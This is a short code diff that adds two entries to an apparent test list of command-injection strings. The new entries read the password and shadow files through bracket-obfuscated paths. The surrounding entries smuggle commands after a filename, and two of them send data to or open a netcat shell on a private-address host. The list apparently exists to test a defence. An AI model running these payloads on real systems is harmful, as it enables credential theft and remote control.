@@ -6,6 +6,8 @@ const ATTACKS: string[] = [
   'report.pdf; whoami',
   'x;rmt-tar -f /dev/tcp/10.0.0.9/9',
   'x; lastlogin -u root',
+  'cat /e[t]c/pas[s]wd',
+  'x;tac /[e]tc/sha[d]ow',
   "x;trap 'nc 10.0.0.9 9 -e sh' EXIT",
   'report.pdf;uname -r',
   'x && id',
